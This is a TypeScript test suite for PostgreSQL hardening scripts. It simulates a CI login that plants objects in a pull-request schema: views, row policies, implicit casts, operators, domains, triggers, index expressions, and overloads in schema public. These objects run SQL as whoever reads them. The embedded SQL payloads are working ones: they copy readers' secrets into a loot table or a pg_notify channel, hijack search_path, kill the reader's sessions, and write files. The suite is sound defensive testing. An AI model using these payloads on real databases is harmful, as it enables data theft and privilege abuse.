import type pg from 'pg';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  type Administrator,
  asSuperuser,
  createDatabase,
  install,
  plainAdministrator,
  run,
  setPasswords,
  superuserOf,
  using,
} from '../support/postgres-engine.ts';
import { scripts } from '../support/postgres-matrix.ts';
import { type Major, type Server, startServer } from '../support/postgres-server.ts';

const DATABASE = 'warehouse';
const CI = 'acme_ci_service';
const PROD = 'acme_prod_service';
const JANITOR = 'acme_janitor';
const LOGINS = ['priya', 'anna', CI, PROD, JANITOR, 'loader'] as const;

/** Reads, as whoever runs it, what only that login may read. A string: nobody's rights are looked at before it runs. */
const SECRET = "query_to_xml(format('select line from secrets.%I', current_user), true, true, '')::text";
const NOTIFY = `pg_notify('loot', ${SECRET})::text`;

/** What a trap needs from the server: a function of its own, or nothing that could be taken away from it. */
type Needs = 'a function' | 'built-ins' | 'nothing that works';
type Who = 'developer' | 'reviewer' | 'plain administrator' | 'superuser';

/** A trap that the code of a pull request lays in pr_66, and what its reader does there in good faith. */
interface Trap {
  readonly trap: string;
  readonly needs: Needs;
  readonly lay: string;
  readonly act: string;
  /** Reading is enough: two settings of the reader's keep it out (see "settings" below). */
  readonly byReading?: true;
  /** Who is not caught although the trap can be laid. */
  readonly spares?: readonly Who[];
  /** The harm, where it is not that the reader's secret reached ci_service. */
  readonly harm?: (scene: Scene) => Promise<boolean>;
}

interface Scene {
  readonly reader: pg.Client;
  /** Another session of the reader's. */
  readonly bystander: pg.Client;
  readonly ci: pg.Client;
  superuser(sql: string): Promise<void>;
}

const view = (trap: string, needs: Needs, expression: string, more: Partial<Trap> = {}): Trap => ({
  trap,
  needs,
  lay: `create view pr_66.trap as select id, ${expression} as harmless from pr_66.orders`,
  act: 'select * from pr_66.trap',
  byReading: true,
  ...more,
});
/** What the reader then finds under the name orders, where it had said that it means production's. */
const reads =
  (amount: number) =>
  async ({ reader }: Scene): Promise<boolean> =>
    Number((await reader.query('select amount from orders')).rows[0]?.amount) === amount;

const TRAPS: readonly Trap[] = [
  view('a view that calls a function', 'a function', 'pr_66.spring()'),
  {
    ...view('a view with security_invoker that calls a function', 'a function', ''),
    lay: 'create view pr_66.trap with (security_invoker) as select pr_66.spring()',
  },
  {
    ...view('a view with security_barrier that calls a function', 'a function', ''),
    lay: 'create view pr_66.trap with (security_barrier) as select pr_66.spring()',
  },
  view('a view that calls a function with its owner’s rights', 'nothing that works', 'pr_66.spring_as_owner()'),
  view('a view that only calls built-in functions', 'built-ins', NOTIFY),
  view('a view that writes into a large object', 'built-ins', `lo_put(4242, 0, convert_to(${SECRET}, 'UTF8'))::text`, {
    harm: async ({ ci }) => {
      const { rows } = await ci.query("select convert_from(lo_get(4242), 'UTF8') as text");
      return String(rows[0]?.text).includes('only for');
    },
  }),
  view('a view that sets search_path', 'built-ins', "set_config('search_path', 'pr_66', false)", { harm: reads(666) }),
  view(
    'a view that ends the reader’s other sessions',
    'built-ins',
    '(select bool_and(pg_terminate_backend(pid, 5000)) from pg_stat_activity where usename = current_user and pid <> pg_backend_pid())',
    {
      harm: ({ bystander }) =>
        bystander.query('select 1').then(
          () => false,
          () => true,
        ),
    },
  ),
  view('a view that writes a file on the server', 'built-ins', "lo_export(4243, 'written_by_a_pull_request')", {
    spares: ['developer', 'reviewer', 'plain administrator'],
    harm: async ({ ci, superuser }) => {
      const [{ written } = { written: '' }] = (await ci.query<{ written: string }>("select convert_from(lo_get(4243), 'UTF8') as written")).rows;
      return superuser(`select 1 / (pg_read_file('written_by_a_pull_request') = '${written}')::int`).then(
        () => true,
        () => false,
      );
    },
  }),
  view('a view that makes a temporary table', 'a function', 'pr_66.shadow()', { harm: reads(666) }),
  {
    trap: 'a materialized view, refreshed',
    needs: 'nothing that works',
    lay: 'create materialized view pr_66.trap as select pr_66.spring()',
    act: 'select * from pr_66.trap; refresh materialized view pr_66.trap',
  },
  {
    trap: 'a row policy that calls a function',
    needs: 'a function',
    byReading: true,
    spares: ['superuser'],
    lay: 'create table pr_66.trap as select * from pr_66.orders; alter table pr_66.trap enable row level security; create policy p on pr_66.trap using (pr_66.spring())',
    act: 'select * from pr_66.trap',
  },
  {
    trap: 'a row policy that only calls built-in functions',
    needs: 'built-ins',
    byReading: true,
    spares: ['superuser'],
    lay: `create table pr_66.trap as select * from pr_66.orders; alter table pr_66.trap enable row level security; create policy p on pr_66.trap using (${NOTIFY} is not null)`,
    act: 'select * from pr_66.trap',
  },
  {
    trap: 'a type with an implicit cast to text',
    needs: 'a function',
    lay: `create type pr_66.kind as enum ('web');
      create function pr_66.kind_text(pr_66.kind) returns text language plpgsql as 'begin return pr_66.spring()::text; end';
      create cast (pr_66.kind as text) with function pr_66.kind_text(pr_66.kind) as implicit;
      create table pr_66.trap as select 'web'::pr_66.kind as kind`,
    act: 'select upper(kind) from pr_66.trap',
  },
  {
    trap: 'an operator, with pr_66 in the search path',
    needs: 'a function',
    lay: `create function pr_66.same(numeric, integer) returns boolean language sql as 'select pr_66.spring()';
      create operator pr_66.= (leftarg = numeric, rightarg = integer, function = pr_66.same)`,
    act: 'set search_path = pr_66; select * from orders where amount = 666',
  },
  {
    trap: 'an aggregate, with pr_66 in the search path',
    needs: 'a function',
    lay: `create function pr_66.step(boolean, numeric) returns boolean language sql as 'select pr_66.spring()';
      create aggregate pr_66.total(numeric) (sfunc = pr_66.step, stype = boolean)`,
    act: 'set search_path = pr_66; select total(amount) from orders',
  },
  {
    trap: 'a domain with a check that calls a function',
    needs: 'a function',
    lay: 'create domain pr_66.trap as text check (pr_66.spring())',
    act: "select 'web'::pr_66.trap",
  },
  {
    trap: 'a domain with a check that only calls built-in functions',
    needs: 'built-ins',
    lay: `create domain pr_66.trap as text check (${NOTIFY} is not null)`,
    act: "select 'web'::pr_66.trap",
  },
  ...(
    [
      ['a column default that calls a function', 'a function', 'create table pr_66.trap (i int, b boolean default pr_66.spring())'],
      ['a column default that only calls built-in functions', 'built-ins', `create table pr_66.trap (i int, b text default ${NOTIFY})`],
      ['a check constraint that calls a function', 'a function', 'create table pr_66.trap (i int check (pr_66.spring()))'],
      [
        'a trigger',
        'a function',
        'create table pr_66.trap (i int); create trigger t before insert on pr_66.trap for each row execute function pr_66.spring_on_write()',
      ],
      [
        'a rule that only calls built-in functions',
        'built-ins',
        `create table pr_66.trap (i int); create rule r as on insert to pr_66.trap do also select ${NOTIFY}`,
      ],
    ] as const
  ).map(([trap, needs, lay]) => ({ trap, needs, lay: `${lay}; grant insert on pr_66.trap to public`, act: 'insert into pr_66.trap (i) values (1)' })),
  {
    trap: 'an expression that ANALYZE computes',
    needs: 'nothing that works',
    lay: `create function pr_66.fixed(int) returns int immutable language plpgsql as 'begin perform pr_66.spring(); return 1; end';
      create table pr_66.trap as select * from pr_66.orders; create index on pr_66.trap (pr_66.fixed(id)); create statistics pr_66.s on (pr_66.fixed(id)) from pr_66.trap`,
    act: 'analyze pr_66.trap',
  },
];

/** The functions that the traps call; what they can read goes into a table that everybody may add to. */
const SPRINGS: readonly string[] = [
  ...['spring', 'spring_as_owner'].map(
    (name) => `create function pr_66.${name}() returns boolean language plpgsql ${name === 'spring' ? '' : 'security definer'} as $$
      declare v_line text;
      begin
        execute format('select line from secrets.%I', current_user) into v_line;
        insert into pr_66.loot values (v_line);
        return true;
      exception when insufficient_privilege or undefined_table then
        insert into pr_66.loot values ('nothing, as ' || current_user);
        return true;
      end $$`,
  ),
  "create function pr_66.spring_on_write() returns trigger language plpgsql as 'begin perform pr_66.spring(); return new; end'",
  "create function pr_66.shadow() returns int language plpgsql as 'begin create temporary table orders as select 666 as amount; return 1; end'",
];

/**
 * Refuses what is no system view and no table as it stands, rather than run what it says. In 15.8, 16.4, 17 and later:
 * https://www.postgresql.org/docs/release/15.8/, https://www.postgresql.org/docs/current/runtime-config-client.html.
 */
const keepsOut = (login: string): string =>
  `alter role ${login} set restrict_nonsystem_relation_kind = 'view, foreign-table'; alter role ${login} set row_security = off`;

/** PostgreSQL's own functions that run SQL from a text: nobody's rights are looked at before a reader runs it. */
const CLOSE_TEXT_RUNNERS = `DO $$
  DECLARE
    v_function text;
  BEGIN
    FOR v_function IN
      SELECT oid::regprocedure FROM pg_proc
       WHERE pronamespace = 'pg_catalog'::regnamespace
         AND proname IN ('query_to_xml', 'query_to_xmlschema', 'query_to_xml_and_xmlschema', 'table_to_xml', 'table_to_xmlschema',
           'table_to_xml_and_xmlschema', 'schema_to_xml', 'schema_to_xmlschema', 'schema_to_xml_and_xmlschema', 'database_to_xml',
           'database_to_xmlschema', 'database_to_xml_and_xmlschema', 'ts_stat', 'ts_rewrite')
    LOOP
      EXECUTE format('REVOKE EXECUTE ON FUNCTION %s FROM PUBLIC', v_function);
    END LOOP;
  END $$`;

/** Nearer to what a script's own calls give than PostgreSQL's own: name, where that takes text. */
const OVERLOADS = `
  create table public.loot (line text); grant all on public.loot to public;
  create sequence public.times; grant all on sequence public.times to public; -- unlike a row, it stays when the script fails
  create function public.note() returns boolean language plpgsql as $$
    begin perform nextval('public.times'); insert into public.loot values (current_user); return true; exception when read_only_sql_transaction then
      raise exception 'ran as %', current_user; end $$;
  create function public.quote_ident(name) returns text language plpgsql as 'begin perform public.note(); return pg_catalog.quote_ident($1::text); end';
  create function public.pg_has_role(name, text, text) returns boolean language plpgsql as 'begin perform public.note(); return pg_catalog.pg_has_role($1, $2::name, $3); end';
  create function public.joined(name, name) returns text language plpgsql as 'begin perform public.note(); return $1::text operator(pg_catalog.||) $2::text; end';
  create operator public.|| (leftarg = name, rightarg = name, function = public.joined);
`;

interface Installation {
  readonly name: string;
  readonly major: Major;
  readonly plain: boolean;
}
const INSTALLATIONS: readonly Installation[] = [
  { name: 'PostgreSQL 15, installed by a superuser', major: 15, plain: false },
  { name: 'PostgreSQL 18, installed by a superuser', major: 18, plain: false },
  { name: 'PostgreSQL 18, installed by a plain administrator', major: 18, plain: true },
];

describe.each(INSTALLATIONS)('$name', ({ major, plain }) => {
  let server: Server;
  let admin: Administrator;
  let passwords: ReadonlyMap<string, string>;
  let ci: pg.Client;
  let heard: string[] = [];

  const who = (login: string): Administrator => (login === admin.login ? admin : { login, password: passwords.get(login) ?? '' });
  const as = (login: string, sql: string): Promise<Record<string, unknown>[]> =>
    using(server, who(login), DATABASE, async (client) => (await client.query(sql)).rows);
  const readers = (): readonly (readonly [Who, string])[] => [
    ['developer', 'priya'],
    ['reviewer', 'anna'],
    [plain ? 'plain administrator' : 'superuser', admin.login],
  ];

  beforeAll(async () => {
    server = await startServer({ major });
    admin = plain ? await plainAdministrator(server) : superuserOf(server);
    await asSuperuser(server, 'postgres', 'create role loader login');
    await createDatabase(server, DATABASE, admin, 'create schema raw_pii; create table raw_pii.people as select $$ana@example.com$$ as email');
    await asSuperuser(
      server,
      DATABASE,
      'create schema raw authorization loader; create table raw.orders as select 1 as id, 10 as amount; alter table raw.orders owner to loader',
    );
    if (plain) await asSuperuser(server, DATABASE, `grant loader to ${admin.login} ${major > 15 ? 'with inherit true' : ''}`);
    await install(server, admin, DATABASE);
    passwords = await setPasswords(server, LOGINS);
    // An administrator who is no superuser reads a pull request only as a member of somebody who may.
    if (plain) await using(server, admin, DATABASE, (client) => client.query(`grant acme_reviewer to ${admin.login} ${major > 15 ? 'with inherit true' : ''}`));
    await using(server, admin, DATABASE, (client) =>
      client.query(
        `create schema secrets; grant usage on schema secrets to public; ${['priya', 'anna', PROD, admin.login]
          .map((login) => `create table secrets.${login} as select 'only for ${login}' as line; grant select on secrets.${login} to ${login}`)
          .join(';')}`,
      ),
    );
    await as(PROD, 'create table analytics.orders as select * from raw.orders');
    ci = await server.connect(CI, passwords.get(CI) ?? '', DATABASE);
    ci.on('notification', ({ payload = '' }) => void heard.push(payload));
    await ci.query('listen loot');
  });
  afterAll(async () => {
    await ci?.end();
    await server?.stop();
  });

  /** An empty pr_66, as its pull request would build it: one table, and what the traps need as far as CI may make it. */
  async function scene(): Promise<void> {
    await ci.query("call acme_door.drop_schema('pr_66')");
    await ci.query("call acme_door.create_schema('pr_66')");
    await ci.query(`create table pr_66.orders as select 1 as id, 666::numeric as amount; create table pr_66.loot (line text); grant insert on pr_66.loot to public;
      select lo_unlink(oid) from pg_largeobject_metadata where oid in (4242, 4243); select lo_from_bytea(4242, ''), lo_from_bytea(4243, convert_to(gen_random_uuid()::text, 'UTF8'));
      grant select, update on large object 4242 to public`);
    for (const spring of SPRINGS) await ci.query(spring).catch(() => {});
    heard = [];
  }

  /** Lays the trap and lets that login step on it: whether it did harm. What stops the layer or the reader is no error here. */
  async function harms(trap: Trap, login: string, prepare = ''): Promise<boolean> {
    await scene();
    try {
      await ci.query(trap.lay);
    } catch {
      return false;
    }
    const { password } = who(login);
    const [reader, bystander] = [await server.connect(login, password, DATABASE), await server.connect(login, password, DATABASE)];
    try {
      await reader.query(`set search_path = analytics; ${prepare}`);
      await reader.query(trap.act).catch(() => {});
      if (trap.harm) return await trap.harm({ reader, bystander, ci, superuser: (sql) => asSuperuser(server, DATABASE, sql) });
      const { rows } = await ci.query('select line from pr_66.loot');
      return [...heard, ...rows.map(({ line }) => String(line))].some((line) => line.includes(`only for ${login}`));
    } finally {
      await reader.end();
      await bystander.end().catch(() => {});
    }
  }
  /** Every trap that did harm, with those whom it harmed. */
  async function harmed(stepping = readers(), prepare = ''): Promise<Record<string, readonly Who[]>> {
    const found: Record<string, readonly Who[]> = {};
    for (const trap of TRAPS) {
      const caught: Who[] = [];
      for (const [reader, login] of stepping) if (await harms(trap, login, prepare)) caught.push(reader);
      if (caught.length > 0) found[trap.trap] = caught;
    }
    return found;
  }
  const expected = (works: (needs: Needs) => boolean): Record<string, readonly Who[]> =>
    Object.fromEntries(
      TRAPS.filter(({ needs }) => works(needs))
        .map(
          ({ trap, spares = [] }) =>
            [
              trap,
              readers()
                .map(([reader]) => reader)
                .filter((reader) => !spares.includes(reader)),
            ] as const,
        )
        .filter(([, caught]) => caught.length > 0),
    );

  test('before production is closed: a pull request that may write functions catches whoever reads it', async () => {
    expect(await harmed()).toEqual(expected((needs) => needs !== 'nothing that works'));
  });

  const whatOthersMake = async (): Promise<Record<string, string>> => {
    const attempts = {
      'a function in plpgsql': "create function pg_temp.f() returns int language plpgsql as 'begin return 1; end'",
      'a function in sql': "create function pg_temp.f() returns int language sql as 'select 1'",
      'a procedure': "create procedure pg_temp.p() language plpgsql as 'begin end'",
      'a block': 'do $$ begin end $$',
    };
    const found: Record<string, string> = {};
    for (const login of [CI, 'priya', PROD, 'anna']) {
      for (const [name, sql] of Object.entries(attempts)) {
        found[`${login}: ${name}`] = await as(login, sql).then(
          () => 'done',
          (error: Error) => error.message,
        );
      }
    }
    return found;
  };
  test('what runs with its owner’s rights does run, and finds nothing: the traps that do no harm are real ones', async () => {
    for (const { trap, lay, act } of TRAPS.filter(({ needs }) => needs === 'nothing that works')) {
      await scene();
      await ci.query(lay);
      await as(admin.login, act).catch(() => {});
      expect((await ci.query('select distinct line from pr_66.loot')).rows, trap).toEqual([{ line: `nothing, as ${CI}` }]);
    }
  });

  test('the owner of a source can act as production, which reads it', async () => {
    const change = "create function raw.change() returns int language plpgsql as 'begin update analytics.orders set amount = 0; return 1; end'";
    await as('loader', `${change}; create view raw.v_orders as select *, raw.change() as harmless from raw.orders; grant select on raw.v_orders to ${PROD}`);
    await as(PROD, 'create table analytics.from_view as select * from raw.v_orders');
    expect(await as(PROD, 'select amount from analytics.orders')).toEqual([{ amount: 0 }]);
    await as(PROD, 'update analytics.orders set amount = 10; drop table analytics.from_view');
  });

  test('closing takes functions from CI alone, and only a superuser can', async () => {
    await as(CI, "call acme_door.create_schema('pr_65')");
    await as(
      CI,
      "create function pr_65.early() returns text language sql as 'select current_user::text'; create view pr_65.trap as select pr_65.early(); create table pr_65.kept (i int)",
    );
    expect(new Set(Object.values(await whatOthersMake()))).toEqual(new Set(['done']));

    const notices = await run(server, admin, DATABASE, [['90_close_prod', scripts().get('grants/90_close_prod.sql') ?? '']]);
    const made = await whatOthersMake();
    if (plain) {
      expect(notices.join('\n')).toContain('only a superuser can');
      expect(new Set(Object.values(made))).toEqual(new Set(['done']));
      return;
    }
    expect(
      Object.entries(made)
        .filter(([, outcome]) => outcome !== 'done')
        .map(([attempt, outcome]) => `${attempt}: ${outcome}`),
    ).toEqual(
      [CI, 'anna'].flatMap((login) => [
        `${login}: a function in plpgsql: permission denied for language plpgsql`,
        `${login}: a function in sql: permission denied for language sql`,
        `${login}: a procedure: permission denied for language plpgsql`,
        `${login}: a block: permission denied for language plpgsql`,
      ]),
    );
  });

  test('after that, built-in functions are enough for the rest', async () => {
    expect(await harmed()).toEqual(expected((needs) => needs === 'built-ins' || (plain && needs === 'a function')));
  });

  test('what CI wrote before can be called by nobody, and nothing is lost; without a superuser it goes on running as its reader', async () => {
    expect(await as('priya', 'select from pr_65.kept')).toEqual([]);
    if (plain) return expect(await as('priya', 'select early from pr_65.trap')).toEqual([{ early: 'priya' }]);
    await expect(as('priya', 'select early from pr_65.trap')).rejects.toThrow('permission denied for function early');
    expect(await as(CI, "select proname from pg_proc where proowner = 'acme_ci_service'::regrole")).toEqual([]);
  });

  test('the owner of a source that had functions still acts as production; any other can still read what production reads', async () => {
    await as(PROD, 'create table analytics.from_view as select * from raw.v_orders');
    expect(await as(PROD, 'select amount from analytics.orders')).toEqual([{ amount: 0 }]);
    heard = [];
    await as('loader', `create view raw.v_quiet as select id, ${NOTIFY} as harmless from raw.orders; grant select on raw.v_quiet to ${PROD}`);
    await as(PROD, 'create table analytics.from_quiet as select * from raw.v_quiet');
    await ci.query('select 1');
    expect(heard.join()).toContain(`only for ${PROD}`);
  });

  test('settings of the reader stop every trap that reading springs, and the scripts and the door work with them', async () => {
    const reading = new Set(TRAPS.filter(({ byReading }) => byReading).map(({ trap }) => trap));
    const administrator = readers().slice(2);
    const before = await harmed(administrator);
    expect(Object.keys(before).filter((trap) => reading.has(trap)).length).toBeGreaterThan(4);
    for (const login of [admin.login, JANITOR]) await as(admin.login, keepsOut(login));
    expect(await harmed(administrator)).toEqual(Object.fromEntries(Object.entries(before).filter(([trap]) => !reading.has(trap))));

    await install(server, admin, DATABASE);
    const all = scripts();
    expect(await as(JANITOR, "select schema_name from acme_door.environment where schema_name = 'pr_66'")).toHaveLength(1);
    await asSuperuser(server, DATABASE, "update acme_door.environment set last_used_at = now() - interval '40 days' where schema_name = 'pr_66'");
    await as(JANITOR, "call acme_door.drop_schema('pr_66', now())");
    const again = (name: string): Promise<unknown> => run(server, admin, DATABASE, [[name, all.get(`grants/${name}.sql`) ?? '']]);
    for (const name of ['00_look', '90_close_prod']) await again(name);
    // The audit works too, and names the traps that were laid above.
    if (plain) await expect(again('audit')).rejects.toThrow('acme_ci_service owns pr_65.early(), which runs as whoever reads pr_65.trap');
    expect(await as(admin.login, 'select login, how from acme_door.audit()')).toContainEqual({ login: 'loader', how: expect.stringContaining('raw.change()') });
  });

  test('a pull request copies nothing that developers may not read', async () => {
    for (const attempt of [
      'create table pr_66.people as select * from raw_pii.people',
      'create view pr_66.people as select * from raw_pii.people',
      "select query_to_xml('select * from raw_pii.people', true, true, '')",
      "select table_to_xml('raw_pii.people', true, true, '')",
    ]) {
      await expect(as(CI, attempt), attempt).rejects.toThrow('permission denied for schema raw_pii');
    }
    await scene();
    await ci.query("create view pr_66.people as select query_to_xml('select * from raw_pii.people', true, true, '')::text as people");
    await expect(as('priya', 'select * from pr_66.people')).rejects.toThrow('permission denied for schema raw_pii');
  });

  test('a pull request hangs nothing on production', async () => {
    await scene();
    const deploy = await server.connect(PROD, passwords.get(PROD) ?? '', DATABASE);
    for (const [attempt, refusal] of [
      ['create table pr_66.child () inherits (analytics.orders)', 'must be owner of table orders'],
      ['create table pr_66.part (id int, amount int); alter table analytics.orders attach partition pr_66.part default', 'must be owner of table orders'],
      ['create table pr_66.referring (id int references analytics.orders)', /permission denied for table orders|there is no primary key/],
      ['create statistics pr_66.s on id, amount from analytics.orders', 'must be owner of table orders'],
      [
        'create trigger t before insert on analytics.orders for each row execute function suppress_redundant_updates_trigger()',
        'permission denied for table orders',
      ],
      ['create policy p on analytics.orders using (true)', 'must be owner of table orders'],
      [
        'create event trigger e on ddl_command_end execute function pg_catalog.suppress_redundant_updates_trigger()',
        /permission denied to create event trigger|must return type event_trigger/,
      ],
      ['create type pr_66.base (input = boolin, output = boolout)', 'must be superuser to create a base type'],
      [
        "create table pr_66.computed (id int, harmless text generated always as (set_config('search_path', 'pr_66', false)))",
        /generation expression is not immutable|syntax error/,
      ],
      [
        "select pg_terminate_backend(pid) from pg_stat_activity where usename = 'acme_prod_service'",
        'permission denied to terminate process|must be a member of the role',
      ],
    ] as const) {
      await expect(as(CI, attempt), attempt).rejects.toThrow(new RegExp(refusal));
    }
    await deploy.end();
  });

  test('pull requests are not shielded from each other: one login builds them all', async () => {
    await scene();
    await as(CI, "call acme_door.create_schema('pr_67')");
    await as(CI, 'create table pr_67.orders as select 1 as id; drop table pr_67.orders');
    const other = await server.connect(CI, passwords.get(CI) ?? '', DATABASE);
    await ci.query('select pg_terminate_backend(pid, 5000) from pg_stat_activity where usename = session_user and pid <> pg_backend_pid()');
    await expect(other.query('select 1')).rejects.toThrow();
    // What a login sets for itself stays for its next sessions, its password too.
    await ci.query('alter role acme_ci_service set default_transaction_read_only = on');
    await expect(as(CI, 'create table pr_67.orders as select 1 as id')).rejects.toThrow('read-only transaction');
    await ci.query('alter role acme_ci_service reset default_transaction_read_only');
  });

  test('remedy: without the built-in functions that run a text, readers keep their secrets', async () => {
    const people = readers().slice(0, 2);
    const before = await harmed(people);
    await asSuperuser(server, DATABASE, CLOSE_TEXT_RUNNERS);
    const after = await harmed(people);
    await asSuperuser(server, DATABASE, CLOSE_TEXT_RUNNERS.replace('REVOKE', 'GRANT').replace('FROM PUBLIC', 'TO PUBLIC'));
    expect(Object.keys(before)).toContain('a view that only calls built-in functions');
    const left = Object.keys(after);
    expect(plain ? left.filter((trap) => !TRAPS.some((one) => one.trap === trap && one.needs === 'a function')) : left).toEqual([
      'a view that sets search_path',
      'a view that ends the reader’s other sessions',
    ]);
  });

  test('a function that anybody put into schema public is not run by the administrator who runs the scripts', async () => {
    const database = 'upgraded';
    await createDatabase(server, database, admin, 'select 1');
    await asSuperuser(server, database, 'grant create on schema public to public');
    await using(server, who('loader'), database, (client) => client.query(OVERLOADS));
    const ran = async (script: readonly [string, string]): Promise<{ times: number; as: readonly string[]; error: string }> => {
      const error = await run(server, admin, database, [script]).then(
        () => '',
        (thrown: Error) => thrown.message,
      );
      return using(server, who('loader'), database, async (client) => {
        const { rows } = await client.query<{ times: string }>("select nextval('public.times') - 1 as times, setval('public.times', 1, false)");
        const loot = await client.query<{ line: string }>('select distinct line from public.loot');
        await client.query('delete from public.loot');
        return { times: Number(rows[0]?.times), as: loot.rows.map(({ line }) => line), error };
      });
    };
    const harmless = { times: 0, as: [], error: '' };
    const all = scripts();
    const script = (name: string): readonly [string, string] => [name, all.get(`grants/${name}.sql`) ?? ''];
    for (const name of ['00_look', '10_roles', '20_boundary', '30_developers', '40_services', '50_readers'])
      expect(await ran(script(name)), name).toEqual(harmless);
    expect(await ran(script('audit'))).toEqual({ ...harmless, error: expect.stringContaining('PUBLIC may create in schema public') });
    await using(server, who(PROD), database, (client) => client.query('create table analytics.orders as select 1 as id'));
    for (const name of ['90_close_prod', '91_reopen_prod']) expect(await ran(script(name)), name).toEqual(harmless);

    // The same scripts without their search_path do run it: one that writes, and one that only reads.
    const unpinned = ([name, sql]: readonly [string, string]): readonly [string, string] => {
      const without = sql.replace('SET LOCAL search_path = pg_catalog, pg_temp;', '');
      expect(without).not.toBe(sql);
      return [name, without];
    };
    expect(await ran(unpinned(script('30_developers')))).toMatchObject({ as: [admin.login], error: '' });
    expect(await ran(unpinned(script('00_look')))).toMatchObject({ error: expect.stringContaining(`ran as ${admin.login}`) });
  });
});
